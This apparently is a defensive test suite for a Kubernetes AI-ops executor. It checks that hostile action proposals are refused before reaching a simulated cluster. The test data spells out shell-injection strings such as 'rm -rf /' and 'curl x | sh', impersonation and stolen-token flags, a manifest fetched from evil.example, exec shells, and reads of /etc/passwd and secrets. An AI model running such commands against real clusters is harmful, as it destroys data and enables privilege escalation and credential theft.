/**
 * The security figure: hostile inputs, each through the real path (zod parse → `execute` with a shipped
 * policy and the most permissive approver) against the real HTTPS simulator with the executor token. Every
 * one must be refused before anything (dry runs included) is sent to the cluster; a refusal that reached
 * `execute` must be audited with decision `deny`. Policy files with unknown keys or wrong types are refused
 * at load with a line-accurate error.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SimServer } from '../../aiopslab-harness/sim/server/http.js';
import { ActionProposal } from '../../src/core/actions.js';
import { AuditEntry } from '../../src/core/audit.js';
import type { Policy } from '../../src/core/policy.js';
import type { ExecutorClients } from '../../src/executor/actions/types.js';
import { preApprovedApprover } from '../../src/executor/approval.js';
import { AuditLog, verifyAuditLog } from '../../src/executor/audit-log.js';
import { execute } from '../../src/executor/executor.js';
import { loadPolicy, parsePolicy } from '../../src/executor/load-policy.js';
import { readBackVerifier } from '../../src/executor/verifier.js';
import { NS, clientsWithKubectl, startSim } from './sim-fixture.js';

type PolicyName = 'bench' | 'standard';
interface ActionCase {
  label: string;
  policy: PolicyName;
  input: unknown;
}
interface PolicyFileCase {
  label: string;
  text: string;
  /** The line the error must point at. */
  line: number;
}

const KS = 'kube-system';
const ev = { rationale: 'hostile', evidence: ['ev-1'] };
const BAD = [
  '; rm -rf /',
  '$(rm -rf /)',
  '`rm -rf /`',
  'a | sh',
  'a && reboot',
  'a > /etc/passwd',
  'a\nb',
  'a\0b',
];

const scale = (replicas: unknown, namespace = NS, name = 'geo') => ({
  kind: 'scaleDeployment',
  namespace,
  name,
  replicas,
  ...ev,
});
const kubectl = (argv: string[], namespace?: string) => ({
  kind: 'kubectl',
  argv,
  ...(namespace ? { namespace } : {}),
  ...ev,
});

/** One well-formed action of every typed kind, in `namespace`, with `name`. */
function everyKind(namespace: string, name = 'geo'): [string, Record<string, unknown>][] {
  const t = { namespace, name };
  return [
    ['scaleDeployment', { kind: 'scaleDeployment', ...t, replicas: 2, ...ev }],
    ['rolloutRestart', { kind: 'rolloutRestart', ...t, workload: 'Deployment', ...ev }],
    ['deletePod', { kind: 'deletePod', ...t, ...ev }],
    ['patchService', { kind: 'patchService', ...t, ports: [{ port: 53, targetPort: 53 }], ...ev }],
    ['setImage', { kind: 'setImage', ...t, container: 'geo', image: 'evil/miner:1', ...ev }],
    ['setEnv', { kind: 'setEnv', ...t, container: 'geo', env: { LD_PRELOAD: '/tmp/x.so' }, ...ev }],
    ['rollbackDeployment', { kind: 'rollbackDeployment', ...t, ...ev }],
    ['patchNodeSelector', { kind: 'patchNodeSelector', ...t, nodeSelector: { a: 'b' }, ...ev }],
    [
      'setCommand',
      { kind: 'setCommand', ...t, container: 'geo', command: ['sh', '-c', 'curl x | sh'], ...ev },
    ],
    ['setConfigValue', setConfig(['mode'], 'off', { namespace, name })],
    ['releaseVolume', { kind: 'releaseVolume', name, claimNamespace: namespace, claim: 'data', ...ev }],
  ];
}

/** A setConfigValue on the `flags` ConfigMap the suite creates (its key holds JSON). */
function setConfig(path: string[], value: unknown, more: Record<string, unknown> = {}) {
  return {
    kind: 'setConfigValue',
    namespace: NS,
    name: 'flags',
    key: 'flags.json',
    format: 'json',
    path,
    value,
    ...ev,
    ...more,
  };
}

const CASES: ActionCase[] = [];
const add = (label: string, policy: PolicyName, input: unknown) => CASES.push({ label, policy, input });

// Namespace and cluster-wide deletions.
for (const policy of ['standard', 'bench'] as const) {
  add('delete ns', policy, kubectl(['delete', 'ns', NS, '-n', NS]));
  add('delete namespace kube-system', policy, kubectl(['delete', 'namespace', KS, '-n', KS]));
  add('delete pods --all', policy, kubectl(['delete', 'pods', '--all', '-n', NS]));
  add('delete pod "*"', policy, kubectl(['delete', 'pod', '*', '-n', NS]));
}
add('delete pods by label', 'standard', kubectl(['delete', 'pods', '-n', NS, '-l', 'app=geo']));
add('delete pods by field', 'standard', kubectl(['delete', 'pods', '--field-selector=a=b', '-n', NS]));
add('delete -A', 'standard', kubectl(['delete', 'pods', 'geo-1', '-A']));
add('delete --all-namespaces', 'standard', kubectl(['delete', 'pod', 'x', '-n', NS, '--all-namespaces']));
add('delete deployment', 'standard', kubectl(['delete', 'deployment', 'geo', '-n', NS]));
add('delete pod/ + deployment/', 'standard', kubectl(['delete', 'pod/geo-1', 'deployment/geo', '-n', NS]));
add('delete pod,deployment', 'standard', kubectl(['delete', 'pod,deployment', 'geo', '-n', NS]));
add('delete all --all', 'standard', kubectl(['delete', 'all', '--all', '-n', NS]));
add('delete pv', 'standard', kubectl(['delete', 'pv', 'pv-1', '-n', NS]));
add('delete --force', 'standard', kubectl(['delete', 'pod', 'geo-1', '-n', NS, '--force']));
add('delete --raw', 'standard', kubectl(['delete', '--raw', `/api/v1/namespaces/${NS}`]));
add('delete without a name', 'standard', kubectl(['delete', 'pods', '-n', NS]));
add('deletecollection-like label --all', 'standard', kubectl(['label', 'pods', '--all', 'x=y', '-n', NS]));
add('patch -A', 'standard', kubectl(['patch', 'deployment', 'geo', '-A', '-p', '{}']));
add('scale --all', 'standard', kubectl(['scale', 'deployment', '--all', '--replicas=0', '-n', NS]));
add('patch namespace finalizers', 'standard', kubectl(['patch', 'ns', NS, '-n', NS, '-p', '{}']));
add('label node', 'standard', kubectl(['label', 'nodes', 'node-1', 'x=y', '-n', NS]));
add(
  'patch clusterrolebinding',
  'standard',
  kubectl(['patch', 'clusterrolebindings.rbac.authorization.k8s.io', 'admin', '-n', NS, '-p', '{}']),
);
add('annotate serviceaccount', 'standard', kubectl(['annotate', 'sa', 'default', 'a=b', '-n', NS]));
add('read secrets', 'bench', kubectl(['get', 'secrets', '-n', NS, '-o', 'yaml']));

// kube-system (and the other system namespaces): every action kind.
for (const [kind, input] of everyKind(KS, 'coredns')) add(`kube-system ${kind}`, 'standard', input);
add(
  'kube-system kubectl rollout restart',
  'standard',
  kubectl(['rollout', 'restart', 'deployment/coredns', '-n', KS]),
);
add(
  'kube-system kubectl --namespace=',
  'standard',
  kubectl(['patch', 'cm', 'coredns', `--namespace=${KS}`, '-p', '{}']),
);
add('kube-system kubectl read', 'bench', kubectl(['get', 'pods', '-n', KS]));
add(
  '-n kube-system vs namespace field',
  'standard',
  kubectl(['rollout', 'restart', 'deployment/geo', '-n', KS], NS),
);
add(
  'namespace field kube-system, no -n',
  'standard',
  kubectl(['rollout', 'restart', 'deployment/coredns'], KS),
);
add('kube-public scale', 'standard', scale(1, 'kube-public', 'x'));
add('kube-node-lease restart', 'standard', {
  kind: 'rolloutRestart',
  namespace: 'kube-node-lease',
  name: 'x',
  ...ev,
});

// Shell injection in every string field of every action kind.
for (const bad of BAD.slice(0, 6)) add(`namespace ${JSON.stringify(bad)}`, 'bench', scale(2, `${NS}${bad}`));
for (const [kind, input] of everyKind(NS)) add(`${kind} name`, 'bench', { ...input, name: `geo${BAD[1]!}` });
for (const [kind, input] of everyKind(NS).slice(4, 6))
  add(`${kind} container`, 'bench', { ...input, container: `geo${BAD[2]!}` });
for (const bad of BAD)
  add(`setImage image ${JSON.stringify(bad)}`, 'bench', {
    ...everyKind(NS)[4]![1],
    container: 'hotel-reserv-geo',
    image: `geo:1${bad.replaceAll(' ', '')}`,
  });
add('setCommand command NUL', 'bench', {
  ...everyKind(NS)[8]![1],
  container: 'hotel-reserv-geo',
  command: ['geo\0--inject'],
});
add('setEnv key', 'bench', {
  ...everyKind(NS)[5]![1],
  container: 'hotel-reserv-geo',
  env: { 'A;rm -rf /': 'x' },
});
add('setEnv value NUL', 'bench', {
  ...everyKind(NS)[5]![1],
  container: 'hotel-reserv-geo',
  env: { A: 'x\0; rm -rf /' },
});
add('nodeSelector key', 'bench', { ...everyKind(NS)[7]![1], nodeSelector: { 'a$(id)': 'b' } });
add('nodeSelector value', 'bench', { ...everyKind(NS)[7]![1], nodeSelector: { a: '`id`' } });
add('service port name', 'bench', {
  ...everyKind(NS)[3]![1],
  ports: [{ name: 'p;sh', port: 8083, targetPort: 8083 }],
});
add('service targetPort', 'bench', { ...everyKind(NS)[3]![1], ports: [{ port: 8083, targetPort: '$(id)' }] });
add('evidence id', 'bench', { ...scale(2), evidence: ['ev-1; rm -rf /'] });
add('rationale NUL', 'bench', { ...scale(2), rationale: 'fix\0' });
add('kubectl namespace field', 'bench', kubectl(['get', 'pods'], 'a;b'));
add('kubectl -n', 'bench', kubectl(['get', 'pods', '-n', `${NS};rm -rf /`]));
add('kubectl NUL', 'bench', kubectl(['get', 'pods\0', '-n', NS]));
for (const bad of BAD.slice(0, 7))
  add(
    `kubectl patch cm name ${JSON.stringify(bad)}`,
    'bench',
    kubectl(['patch', 'configmap', `flags${bad}`, '-n', NS, '-p', '{}']),
  );
add('kubectl delete pod $()', 'standard', kubectl(['delete', 'pod', '$(reboot)', '-n', NS]));
add('kubectl rollout restart |', 'standard', kubectl(['rollout', 'restart', 'deployment/geo|sh', '-n', NS]));
add(
  'kubectl set image &&',
  'standard',
  kubectl(['set', 'image', 'deployment/geo', 'geo=geo:1&&reboot', '-n', NS]),
);
add('kubectl scale >', 'standard', kubectl(['scale', 'deployment', 'geo>x', '--replicas=1', '-n', NS]));

// Impersonation and credential flags (on an otherwise allowed read, and on writes).
for (const flags of [
  ['--as', 'system:admin'],
  ['--as=system:admin'],
  ['--as-group', 'system:masters'],
  ['--as-uid', '0'],
  ['--token', 'stolen'],
  ['--token=stolen'],
  ['--kubeconfig', '/etc/kubernetes/admin.conf'],
  ['--server', 'https://evil.example'],
  ['-s', 'https://evil.example'],
  ['--context', 'admin'],
  ['--user', 'admin'],
  ['--insecure-skip-tls-verify'],
  ['--cluster', 'prod'],
  ['--client-key', '/tmp/k'],
  ['--certificate-authority', '/tmp/ca'],
  ['--username', 'admin', '--password', 'x'],
])
  add(`get with ${flags[0]!}`, 'bench', kubectl(['get', 'pods', '-n', NS, ...flags]));
add('patch cm --as', 'bench', kubectl(['patch', 'configmap', 'flags', '-n', NS, '-p', '{}', '--as=admin']));
add(
  'patch cm --token',
  'bench',
  kubectl(['patch', 'configmap', 'flags', '-n', NS, '-p', '{}', '--token', 'x']),
);

// Interactive and escape verbs.
for (const argv of [
  ['exec', '-n', NS, 'geo-1', '--', 'sh'],
  ['exec', '-it', 'geo-1', '--', 'sh'],
  ['cp', `${NS}/geo-1:/etc/passwd`, '/tmp/x'],
  ['port-forward', 'geo-1', '8080', '-n', NS],
  ['proxy', '--port=8001'],
  ['attach', 'geo-1', '-n', NS],
  ['debug', 'geo-1', '-n', NS, '--image=busybox'],
  ['edit', 'deployment/geo', '-n', NS],
  ['apply', '-f', '-'],
  ['apply', '-f', 'https://evil.example/x.yaml', '-n', NS],
  ['run', 'x', '--image=busybox', '-n', NS, '--', 'sh'],
  ['create', 'clusterrolebinding', 'x', '--clusterrole=cluster-admin', '--user=me'],
  ['replace', '-f', '/tmp/x.yaml'],
  ['config', 'view', '--raw'],
  ['auth', 'can-i', '--list'],
  ['drain', 'node-1', '--force'],
  ['cordon', 'node-1'],
  ['taint', 'nodes', 'node-1', 'a=b:NoSchedule'],
  ['plugin', 'list'],
  ['get', '--raw', '/api/v1/secrets'],
])
  add(`verb ${argv.slice(0, 2).join(' ')}`, 'standard', kubectl(argv));

// Absurd replica counts.
for (const replicas of [1e6, -1, Number.NaN, Number.POSITIVE_INFINITY, 2.5, 1e308, '3', null])
  add(`replicas ${String(replicas)}`, 'bench', scale(replicas));
add('replicas 11 > maxReplicas', 'bench', scale(11));
add('replicas change 1→5 > maxReplicaChange', 'standard', scale(5));
add('replicas 1e6 (standard)', 'standard', scale(1e6));
add('kubectl scale 1e6', 'standard', kubectl(['scale', 'deployment/geo', '--replicas=1000000', '-n', NS]));
add('kubectl scale -1', 'standard', kubectl(['scale', 'deployment/geo', '--replicas=-1', '-n', NS]));
add('kubectl scale NaN', 'standard', kubectl(['scale', 'deployment/geo', '--replicas', 'NaN', '-n', NS]));
add(
  'kubectl scale 5 (runs as scaleDeployment: change 4 over its limit of 3)',
  'standard',
  kubectl(['scale', 'deployment/geo', '--replicas=5', '-n', NS]),
);

// Outside the policy's namespaces.
add('bench: default namespace', 'bench', scale(2, 'default'));
add('bench: prod namespace', 'bench', scale(2, 'prod'));
add(
  'bench: kubectl patch cm in prod',
  'bench',
  kubectl(['patch', 'configmap', 'flags', '-n', 'prod', '-p', '{}']),
);
add(
  'bench: kubectl patch deployment (not a bench command)',
  'bench',
  kubectl(['patch', 'deployment', 'geo', '-n', NS, '-p', '{}']),
);
add('standard: kube-foo namespace', 'standard', {
  kind: 'rolloutRestart',
  namespace: 'kube-foo',
  name: 'x',
  ...ev,
});

// Proposals that cite no evidence.
add('evidence []', 'bench', { ...scale(2), evidence: [] });
add('no evidence field', 'bench', {
  kind: 'scaleDeployment',
  namespace: NS,
  name: 'geo',
  replicas: 2,
  rationale: 'x',
});
add('empty rationale', 'bench', { ...scale(2), rationale: '' });

// Oversized inputs.
add('name of 300 characters', 'bench', scale(2, NS, 'g'.repeat(300)));
add(
  'argv of 10,000 items',
  'bench',
  kubectl(['get', 'pods', '-n', NS, ...Array.from({ length: 10_000 }, (_, i) => `p${i}`)]),
);
add(
  '1 MB patch',
  'bench',
  kubectl(['patch', 'configmap', 'flags', '-n', NS, '-p', `{"data":{"a":"${'x'.repeat(1 << 20)}"}}`]),
);
add('1 MB rationale', 'bench', { ...scale(2), rationale: 'x'.repeat(1 << 20) });
add('5,000 env variables', 'bench', {
  ...everyKind(NS)[5]![1],
  container: 'hotel-reserv-geo',
  env: Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`V${i}`, 'x'.repeat(64)])),
});

// setConfigValue: prototype paths, huge values, other namespaces.
for (const path of [
  ['__proto__', 'polluted'],
  ['flags', '__proto__'],
  ['constructor', 'prototype', 'polluted'],
  ['prototype'],
  ['flags', 'constructor'],
  [],
  ['a\u0000b'],
  ['k'.repeat(10_000)],
  Array.from({ length: 1000 }, () => 'a'),
])
  add(`setConfigValue path ${JSON.stringify(path).slice(0, 40)}`, 'bench', setConfig(path, 'x'));
add('setConfigValue 1 MB value', 'bench', setConfig(['mode'], 'x'.repeat(1 << 20)));
add('setConfigValue 4097-char value', 'bench', setConfig(['mode'], 'x'.repeat(4097)));
add('setConfigValue object value', 'bench', setConfig(['mode'], { $where: 'sleep(1000)' }));
add('setConfigValue array value', 'bench', setConfig(['mode'], ['a']));
add('setConfigValue 1e400', 'bench', setConfig(['mode'], Number.POSITIVE_INFINITY));
add('setConfigValue key with a path', 'bench', setConfig(['mode'], 'x', { key: '../../etc/passwd' }));
add('setConfigValue format toml', 'bench', setConfig(['mode'], 'x', { format: 'toml' }));
add('setConfigValue in prod', 'bench', setConfig(['mode'], 'x', { namespace: 'prod' }));
add('setConfigValue in default', 'bench', setConfig(['mode'], 'x', { namespace: 'default' }));
add(
  'setConfigValue in kube-system (standard)',
  'standard',
  setConfig(['mode'], 'x', { namespace: KS, name: 'coredns' }),
);
add(
  'setConfigValue in kube-system (bench)',
  'bench',
  setConfig(['Corefile'], 'x', { namespace: KS, name: 'coredns' }),
);
add('setConfigValue kube-foo (standard)', 'standard', setConfig(['a'], 'x', { namespace: 'kube-foo' }));

// releaseVolume: a cluster-scoped object, matched on its claim's namespace.
const releasePv = (claimNamespace: string, more: Record<string, unknown> = {}) => ({
  kind: 'releaseVolume',
  name: 'pv-1',
  claimNamespace,
  claim: 'data',
  ...ev,
  ...more,
});
add('releaseVolume kube-system claim (standard)', 'standard', releasePv(KS));
add('releaseVolume kube-system claim (bench)', 'bench', releasePv(KS));
add('releaseVolume kube-public claim', 'standard', releasePv('kube-public'));
add('releaseVolume prod claim (bench)', 'bench', releasePv('prod'));
add('releaseVolume default claim (bench)', 'bench', releasePv('default'));
add('releaseVolume namespace ≠ claimNamespace', 'bench', releasePv(NS, { namespace: KS }));
add('releaseVolume claim injection', 'bench', releasePv(NS, { claim: 'data;rm -rf /' }));
add('releaseVolume name glob', 'bench', releasePv(NS, { name: 'pv-*' }));
add('releaseVolume 300-char name', 'bench', releasePv(NS, { name: 'p'.repeat(300) }));

// kubectl writes to cluster-scoped kinds: -n scopes nothing, so no namespace rule may allow them.
add(
  'kubectl patch pv -n test-*',
  'bench',
  kubectl(['patch', 'pv', 'pv-1', '-n', NS, '--type', 'json', '-p', '[]']),
);
add(
  'kubectl patch pv (standard)',
  'standard',
  kubectl(['patch', 'persistentvolume', 'pv-1', '-n', NS, '-p', '{}']),
);
add('kubectl label pv', 'standard', kubectl(['label', 'pv', 'pv-1', 'a=b', '-n', NS]));
add('kubectl annotate pv/', 'standard', kubectl(['annotate', 'pv/pv-1', 'a=b', '-n', NS]));
add('kubectl patch node', 'standard', kubectl(['patch', 'node', 'node-1', '-n', NS, '-p', '{}']));
add('kubectl patch ingressclass', 'standard', kubectl(['patch', 'ingressclass', 'x', '-n', NS, '-p', '{}']));
add(
  'kubectl patch pv.v1',
  'standard',
  kubectl(['patch', 'persistentvolumes.v1', 'pv-1', '-n', NS, '-p', '{}']),
);

const POLICY_FILES: PolicyFileCase[] = [
  { label: 'unknown top-level key', text: 'version: 1\nrules: []\nallowEverything: true\n', line: 1 },
  {
    label: 'unknown rule key',
    text: 'version: 1\nrules:\n  - id: a\n    match: {}\n    effect: allow\n    bypass: true\n',
    line: 3,
  },
  {
    label: 'unknown match key',
    text: 'version: 1\nrules:\n  - id: a\n    match:\n      everything: true\n    effect: allow\n',
    line: 5,
  },
  { label: 'rules is a string', text: 'version: 1\nrules: "allow all"\n', line: 2 },
  { label: 'default allow', text: 'version: 1\ndefault: allow\nrules: []\n', line: 2 },
  {
    label: 'effect yes',
    text: 'version: 1\nrules:\n  - id: a\n    match: {}\n    effect: "yes"\n',
    line: 5,
  },
  {
    label: 'namespaces is a string',
    text: 'version: 1\nrules:\n  - id: a\n    match:\n      namespaces: "*"\n    effect: allow\n',
    line: 5,
  },
  {
    label: 'negative maxReplicas',
    text: 'version: 1\nrules:\n  - id: a\n    match: {}\n    effect: allow\n    limits:\n      maxReplicas: -1\n',
    line: 7,
  },
  {
    label: 'unknown action kind',
    text: 'version: 1\nrules:\n  - id: a\n    match:\n      actions: [deleteNamespace]\n    effect: allow\n',
    line: 5,
  },
  {
    label: 'unknown limit',
    text: 'version: 1\nrules:\n  - id: a\n    match: {}\n    effect: allow\n    limits:\n      maxChaos: 1\n',
    line: 7,
  },
];

let server: SimServer;
let dir: string;
let audit: AuditLog;
let clients: ExecutorClients;
const policies = {} as Record<PolicyName, Policy>;
let setupWrites = 0;
const tally = { tried: 0, refused: 0, atValidation: 0, atPolicy: 0, atLoad: 0, writes: 0 };

const WRITE_VERBS_EXCLUDED = new Set(['get', 'list', 'watch', 'discovery']);
const lastSeq = () => server.requestLog.at(-1)?.seq ?? 0;
const writesSince = (since: number) =>
  server.requestLog.filter((e) => e.seq > since && !WRITE_VERBS_EXCLUDED.has(e.verb));

async function auditEntries(): Promise<AuditEntry[]> {
  const text = await readFile(audit.path, 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter(Boolean)
    .map((l) => AuditEntry.parse(JSON.parse(l)));
}

beforeAll(async () => {
  server = await startSim(33);
  dir = await mkdtemp(join(tmpdir(), 'aoi-hostile-'));
  clients = await clientsWithKubectl(server, dir);
  audit = await AuditLog.open(join(dir, 'audit.jsonl'));
  policies.bench = await loadPolicy('bench', undefined, { problemNamespace: NS });
  policies.standard = await loadPolicy('standard');
  await clients.core.createNamespacedConfigMap({
    namespace: NS,
    body: { metadata: { name: 'flags' }, data: { mode: 'on', 'flags.json': '{"mode": "on"}' } },
  });
  setupWrites = server.writesBy('executor').length;
});

afterAll(async () => {
  console.log(
    `hostile inputs tried / refused / writes reached the server: ${tally.tried} / ${tally.refused} / ${tally.writes}` +
      ` (refused at validation ${tally.atValidation}, by the policy ${tally.atPolicy}, at policy load ${tally.atLoad})`,
  );
  await audit.close();
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

describe('hostile actions are refused before anything reaches the cluster', () => {
  it.each(CASES.map((c) => [c.label, c.policy, c] as const))('%s (%s)', async (_label, policy, c) => {
    tally.tried++;
    const since = lastSeq();
    const auditBefore = (await auditEntries()).length;
    const parsed = ActionProposal.safeParse(c.input);
    if (!parsed.success) {
      tally.refused++;
      tally.atValidation++;
    } else {
      const result = await execute(parsed.data, {
        policy: policies[policy],
        approver: preApprovedApprover(['*']),
        audit,
        clients,
        verifier: readBackVerifier({ timeoutMs: 5_000, pollMs: 100 }),
      });
      expect(result.status, result.message).toBe('denied');
      expect(result.decision.effect).toBe('deny');
      const added = (await auditEntries()).slice(auditBefore);
      expect(added.map((e) => [e.decision, (e.action as { step: string }).step])).toEqual([
        ['deny', 'policy'],
      ]);
      tally.refused++;
      tally.atPolicy++;
    }
    const writes = writesSince(since);
    tally.writes += writes.length;
    expect(writes).toEqual([]);
  });

  it.each(POLICY_FILES.map((c) => [c.label, c] as const))(
    'policy file: %s is rejected at load, line-accurate',
    (_label, c) => {
      tally.tried++;
      expect(() => parsePolicy(c.text, 'hostile.yaml')).toThrow(
        new RegExp(`^hostile\\.yaml:${c.line}:\\d+: `),
      );
      tally.refused++;
      tally.atLoad++;
    },
  );

  it('the figure: at least 60 tried, all refused, no write reached the server', async () => {
    expect(tally.tried).toBeGreaterThanOrEqual(60);
    expect(tally.refused).toBe(tally.tried);
    expect(tally.writes).toBe(0);
    expect(server.writesBy('executor')).toHaveLength(setupWrites);
    expect(await verifyAuditLog(audit.path)).toMatchObject({ ok: true });
  });
});

describe('shell text in free-text fields is inert data', () => {
  it('an allowed setEnv with shell text in its value and rationale stores the text literally', async () => {
    const marker = join(dir, 'pwned');
    const text = `$(touch ${marker}); \`touch ${marker}\` | sh && echo > ${marker}`;
    const result = await execute(
      {
        kind: 'setEnv',
        namespace: NS,
        name: 'geo',
        container: 'hotel-reserv-geo',
        env: { NOTE: text },
        rationale: text,
        evidence: ['ev-1'],
      },
      {
        policy: policies.bench,
        approver: preApprovedApprover(['*']),
        audit,
        clients,
        verifier: readBackVerifier({ timeoutMs: 20_000, pollMs: 100 }),
      },
    );
    expect(result.status, result.message).toBe('verified');
    const d = await clients.apps.readNamespacedDeployment({ name: 'geo', namespace: NS });
    const env = d.spec?.template.spec?.containers[0]?.env ?? [];
    expect(env.find((e) => e.name === 'NOTE')?.value).toBe(text);
    expect(existsSync(marker)).toBe(false);
  });
});
